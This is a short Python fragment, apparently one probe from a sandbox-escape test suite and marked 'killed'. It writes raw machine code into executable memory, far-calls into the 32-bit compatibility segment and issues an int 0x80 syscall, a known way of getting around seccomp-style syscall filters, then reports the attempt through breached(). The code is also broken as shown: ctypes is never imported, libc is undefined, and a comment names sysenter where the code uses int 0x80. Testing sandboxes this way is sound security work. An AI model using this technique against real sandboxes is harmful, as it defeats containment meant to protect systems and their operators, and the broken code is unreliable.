# status: killed
# A far call into the segment of 32 bits, and sysenter from there.
import mmap
import struct
low = libc.mmap
low.restype = ctypes.c_void_p
at = low(ctypes.c_void_p(0x10000000), 4096, 7, 0x22 | 0x40, -1, 0)
# mov eax, 20; int 0x80; and then a far return
code = b"\xb8\x14\x00\x00\x00\xcd\x80\xcb"
ctypes.memmove(at, code, len(code))
pointer = ctypes.create_string_buffer(struct.pack("=IH", at & 0xFFFFFFFF, 0x23), 6)
m = mmap.mmap(-1, 4096, prot=7)
m.write(b"\xff\x1f\xc3")  # call far [rdi]
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(m)))(ctypes.addressof(pointer))
breached("a far call", "back")
